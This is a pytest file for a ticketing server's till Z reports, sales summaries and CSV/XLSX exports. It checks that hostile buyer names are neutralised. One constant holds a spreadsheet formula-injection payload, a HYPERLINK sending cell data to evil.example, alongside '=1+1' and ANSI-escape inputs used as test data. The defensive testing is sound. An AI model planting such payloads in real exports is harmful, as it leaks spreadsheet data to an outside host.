"""The till and the organiser's reports (server_stub/store/reports.py, server_stub/reports.py, server_stub/exports.py):
a desk shift's Z report balances to the cent against the sales made in the test (both store backends); the Z report
printed on ESC/POS and as PDF read back; exports (CSV, XLSX) read back with a hostile buyer name neutralised and
accents kept, through the public `ticketgate server …` commands."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from agent.sync.messages import ExchangeRequest, RefundRequest, SaleLine, SaleRequest
from drivers.printers.escpos_render import escpos_text, render_escpos
from server_stub.cli_output import when
from server_stub.exports import csv_bytes, safe_cell, xlsx_bytes
from server_stub.zreport_print import z_escpos, z_pdf

ROOT = Path(__file__).resolve().parent.parent
NOW = time.time()
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _event(store) -> int:
    e = store.create_event("fest", "Soirée d'ouverture", NOW - 3600, NOW + 7200, "Europe/Paris",
                           zones=[{"zone_id": 1, "name": "Fosse"}],
                           categories=[{"category_id": 1, "name": "Standard"}, {"category_id": 2, "name": "Très VIP"}])
    store.set_price("fest", e, 1, 1550)
    store.set_price("fest", e, 2, 4025)
    return e


def _sell(store, e, lines, payment="cash", staff="", **kw):
    req = SaleRequest("fest", "kiosk-1", uuid.uuid4().hex, e, tuple(SaleLine(c, q) for c, q in lines), payment=payment,
                      payment_ref="T-1" if payment == "card" else "", **kw)
    a = store.sell("fest", "kiosk-1", req)
    assert a.ok, a.reason
    if staff:
        store.record_desk_staff(req.request_id, staff)
    return a


def test_z_report_balances_to_the_cent(store):
    store.register_device("fest", "kiosk-1", role="kiosk")
    store.register_device("fest", "kiosk-2", role="kiosk")
    e = _event(store)
    store.add_promotion("fest", "x_for_y", e, category=1, x=4, y=3)
    clara = str(store.add_staff("fest", "Clara Desk", "desk", pin="4821")["staff_id"])
    sam = str(store.add_staff("fest", "Sam Super", "supervisor", pin="9377")["staff_id"])
    before = _sell(store, e, [(1, 1)])                 # before the shift: listed apart in it
    shift = store.open_shift("fest", "kiosk-1", 10_000, staff=clara)
    with pytest.raises(Exception, match="open shift"):
        store.open_shift("fest", "kiosk-1", 500)
    cash1 = _sell(store, e, [(1, 4), (2, 1)], staff=clara)        # 4 for 3 promotion
    cash2 = _sell(store, e, [(2, 2)], staff=sam)
    card = _sell(store, e, [(1, 2)], payment="card", staff=clara)
    invoice = _sell(store, e, [(1, 1)], payment="invoice", staff=clara)
    other_desk = SaleRequest("fest", "kiosk-2", "k2-sale", e, (SaleLine(1, 3),))
    assert store.sell("fest", "kiosk-2", other_desk).ok             # another desk: not in this till
    refused = store.sell("fest", "kiosk-1", SaleRequest("fest", "kiosk-1", "bad", e, (SaleLine(9, 1),)))
    assert not refused.ok                                            # refused: nothing to count
    refund = store.desk_refund("fest", "kiosk-1", RefundRequest("fest", "kiosk-1", "r1", cash2.order_number,
                                                                "changed plans", kind="refund"))
    store.record_desk_staff("r1", sam)
    void = store.desk_refund("fest", "kiosk-1", RefundRequest("fest", "kiosk-1", "v1", card.order_number, "mistake",
                                                              kind="cancel"))
    exch = store.desk_exchange("fest", "kiosk-1", ExchangeRequest("fest", "kiosk-1", "x1", cash1.tickets[0].ticket_key,
                                                                  "upgrade", category=2))
    card_exch = store.desk_exchange("fest", "kiosk-1", ExchangeRequest(     # its difference paid by card: no cash
        "fest", "kiosk-1", "x2", cash1.tickets[1].ticket_key, "upgrade", category=2, payment="card"))
    assert refund.ok and void.ok and exch.ok and card_exch.ok and card_exch.difference_cents > 0
    sales = [cash1, cash2, card, invoice]
    cash_sales = cash1.total_cents + cash2.total_cents
    expected = 10_000 + cash_sales - refund.total_cents + exch.difference_cents
    assert exch.difference_cents == 4025 - 1550 * 3 // 4      # paid 3/4 of the price under the promotion
    closed = store.close_shift("fest", shift["shift_id"], expected - 5, staff=sam)
    z = closed["report"]
    assert z["final"] and z["currency"] == "EUR"
    assert z["sales"] == {"count": 4, "tickets": 10, "total_cents": sum(a.total_cents for a in sales)}
    assert z["payments"] == {"cash": cash_sales, "card": card.total_cents, "invoice": invoice.total_cents}
    assert z["refunds"] == {"count": 1, "total_cents": cash2.total_cents}
    assert z["voids"] == {"count": 1, "total_cents": card.total_cents}
    assert z["exchanges"] == {"count": 2, "collected_cents": exch.difference_cents + card_exch.difference_cents,
                              "refunded_cents": 0, "payments": {"card": card_exch.difference_cents,
                                                                "cash": exch.difference_cents}}
    assert z["expected_cash_cents"] == expected and z["counted_cash_cents"] == expected - 5
    assert z["difference_cents"] == -5
    by_cat = {(c["category"], c["promotion"]): (c["quantity"], c["total_cents"]) for c in z["by_category"]}
    assert by_cat == {(1, "4 for 3"): (4, 3 * 1550), (1, ""): (3, 3 * 1550), (2, ""): (3, 3 * 4025)}
    staff = {s["staff"]: s for s in z["per_staff"]}
    assert staff["Clara Desk"]["sales"] == 3 and staff["Sam Super"]["sales"] == 1
    assert staff["Sam Super"]["cash_cents"] == cash2.total_cents - refund.total_cents
    assert z["opened_by"] == "Clara Desk" and z["closed_by"] == "Sam Super"
    assert [m["order"] for m in z["outside_shift"]["moves"]] == [before.order_number]   # apart, not counted above
    # kept: a sale after closing changes nothing in the stored report
    _sell(store, e, [(1, 1)])
    assert store.shift_report("fest", shift["shift_id"]) == z
    with pytest.raises(Exception, match="closed already"):
        store.close_shift("fest", shift["shift_id"], 0)
    assert [s["shift_id"] for s in store.shifts("fest", "kiosk-1")] == [shift["shift_id"]]
    # printed: ESC/POS rendered back, and the PDF's text read back
    job = z_escpos(z, when)
    text = "\n".join(escpos_text(job))
    render_escpos(job)
    assert "Z REPORT" in text and f"{expected // 100}.{expected % 100:02d} EUR" in text and "-0.05 EUR" in text
    assert "settled card" in text and "settled cash" in text
    from pypdf import PdfReader
    pdf_text = PdfReader(io.BytesIO(z_pdf(z, when))).pages[0].extract_text()
    assert "Expected cash" in pdf_text and "Clara Desk" in pdf_text and "-0.05 EUR" in pdf_text


def test_shift_refusals(store):
    store.register_device("fest", "kiosk-1", role="kiosk")
    with pytest.raises(Exception, match="no device"):
        store.open_shift("fest", "kiosk-9", 100)
    with pytest.raises(ValueError):
        store.open_shift("fest", "kiosk-1", -1)
    s = store.open_shift("fest", "kiosk-1", 100, shift_uuid="same")
    assert store.open_shift("fest", "kiosk-1", 100, shift_uuid="same")["shift_id"] == s["shift_id"]   # resent
    with pytest.raises(ValueError):
        store.close_shift("fest", s["shift_id"], -3)
    with pytest.raises(LookupError):
        store.close_shift("fest", 999, 0)
    assert store.shift("fest", s["shift_id"])["closed_at"] is None       # nothing lost


def test_sales_report_per_dimension(store):
    store.register_device("fest", "kiosk-1", role="kiosk")
    e = _event(store)
    clara = str(store.add_staff("fest", "Clara", "desk", pin="4821")["staff_id"])
    a = _sell(store, e, [(1, 2)], staff=clara)
    b = _sell(store, e, [(2, 1)], payment="card", staff=clara)
    store.add_order("fest", e, "Online buyer", positions=[{"category": 1}])       # no price, no line: not a sale
    lines = store.sales_lines("fest")
    from server_stub.reports import sales_summary
    s = sales_summary(lines)
    assert s["totals"]["total_cents"] == a.total_cents + b.total_cents
    assert s["by"]["payment"]["cash"]["total_cents"] == a.total_cents
    assert s["by"]["category"]["Très VIP"]["tickets"] == 1
    assert s["by"]["desk"]["kiosk-1"]["tickets"] == 3 and s["by"]["staff"]["Clara"]["tickets"] == 3
    assert s["by"]["event"]["Soirée d'ouverture"]["total_cents"] == a.total_cents + b.total_cents


def test_safe_cells():
    assert safe_cell(HOSTILE) == "'" + HOSTILE
    for start in "=+-@":
        assert safe_cell(start + "1+2") == "'" + start + "1+2"
    assert safe_cell("\tx") == "'\\x09x" and safe_cell("\rx") == "'\\x0dx"
    assert safe_cell("a\x1b[2Jb\nc") == "a\\x1b[2Jb\\x0ac"
    assert safe_cell("Zoë Ñúñez") == "Zoë Ñúñez" and safe_cell(-150) == -150 and safe_cell(None) == ""
    rows = [{"name": HOSTILE, "n": 3}, {"name": "Hélène\x07", "n": -2}]
    back = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"))))
    assert back == [["name", "n"], ["'" + HOSTILE, "3"], ["Hélène\\x07", "-2"]]
    assert csv_bytes(rows).startswith(b"\xef\xbb\xbf")
    from openpyxl import load_workbook
    ws = load_workbook(io.BytesIO(xlsx_bytes([("t", rows)]))).active
    assert [[c.value for c in r] for r in ws.iter_rows()] == [["name", "n"], ["'" + HOSTILE, 3], ["Hélène\\x07", -2]]
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


def _server(data: Path, *args: str) -> subprocess.CompletedProcess:
    env = dict(os.environ, TICKETGATE_SERVER_DB="")
    return subprocess.run([sys.executable, "-m", "agent", "server", "--data", str(data), *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=120, env=env)


def test_reports_and_till_through_the_public_commands(tmp_path):
    data = tmp_path / "server"
    assert _server(data, "init", "--org", "fest", "--name", "Fest").returncode == 0
    r = _server(data, "event", "create", "--name", "Fête", "--start", "2026-12-31 20:00", "--end", "2027-01-01 02:00",
                "--tz", "Europe/Paris", "--category", "1=Adulte", "--zone", "1=Fosse", "--json")
    assert r.returncode == 0, r.stderr
    e = json.loads(r.stdout)["event_id"]
    for buyer in (HOSTILE, "Zoë Ñúñez\x1b[2J"):
        assert _server(data, "order", "add", "--event", str(e), "--buyer", buyer, "--ticket", "category=1,zone=1"
                       ).returncode == 0
    assert _server(data, "price", "set", str(e), "--category", "1", "--cents", "2000").returncode == 0
    assert _server(data, "device", "register", "kiosk-1", "--role", "kiosk").returncode == 0
    r = _server(data, "till", "open", "kiosk-1", "--float-cents", "5000", "--json")
    assert r.returncode == 0, r.stderr
    shift = json.loads(r.stdout)["shift_id"]
    from server_stub.store import open_store
    with open_store(data) as store:
        a = store.sell("fest", "kiosk-1", SaleRequest("fest", "kiosk-1", "s1", e, (SaleLine(1, 2),),
                                                      buyer_name="=1+1 Léa"))
        assert a.ok, a.reason
    r = _server(data, "till", "close", str(shift), "--counted-cents", "9000", "--json")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["report"]["expected_cash_cents"] == 9000
    pdf, esc = tmp_path / "z.pdf", tmp_path / "z.bin"
    r = _server(data, "till", "z-report", str(shift), "--pdf", str(pdf), "--escpos", str(esc))
    assert r.returncode == 0 and "Expected cash" in r.stdout and "90.00 EUR" in r.stdout
    assert pdf.read_bytes().startswith(b"%PDF") and "90.00 EUR" in "\n".join(escpos_text(esc.read_bytes()))
    assert oct(pdf.stat().st_mode & 0o777) == "0o600"
    assert "shift" in _server(data, "till", "list").stdout
    # participants: CSV and XLSX read back
    out_csv, out_xlsx = tmp_path / "p.csv", tmp_path / "p.xlsx"
    assert _server(data, "report", "participants", "--out", str(out_csv)).returncode == 0
    assert oct(out_csv.stat().st_mode & 0o777) == "0o600"
    rows = list(csv.DictReader(io.StringIO(out_csv.read_bytes().decode("utf-8-sig"))))
    buyers = [r["buyer"] for r in rows]
    assert "'" + HOSTILE in buyers and "Zoë Ñúñez\\x1b[2J" in buyers and "'=1+1 Léa" in buyers
    assert {r["check_in"] for r in rows} == {"not checked in"} and len(rows) == 4
    assert _server(data, "report", "sales", "--format", "xlsx", "--out", str(out_xlsx)).returncode == 0
    from openpyxl import load_workbook
    ws = load_workbook(out_xlsx).active
    head, *body = [[c.value for c in r] for r in ws.iter_rows()]
    line = dict(zip(head, body[0]))
    assert line["total_cents"] == 4000 and line["payment"] == "cash" and line["desk"] == "kiosk-1"
    assert line["event"] == "Fête" and line["buyer"] == "'=1+1 Léa"
    r = _server(data, "report", "sales", "--json")
    assert json.loads(r.stdout)["summary"]["totals"]["total_cents"] == 4000
    r = _server(data, "report", "entries", "--format", "csv")
    assert r.returncode == 0 and r.stdout.splitlines()[0] == "per,event_id,key,entries,inside_now,refused,exits"
    r = _server(data, "report", "sales")
    assert "per payment:" in r.stdout and "40.00 EUR" in r.stdout
    r = _server(data, "report", "sales", "--format", "xlsx")
    assert r.returncode == 1 and "--out" in r.stderr
    r = _server(data, "till", "close", str(shift), "--counted-cents", "1")
    assert r.returncode == 1 and "closed already" in r.stderr
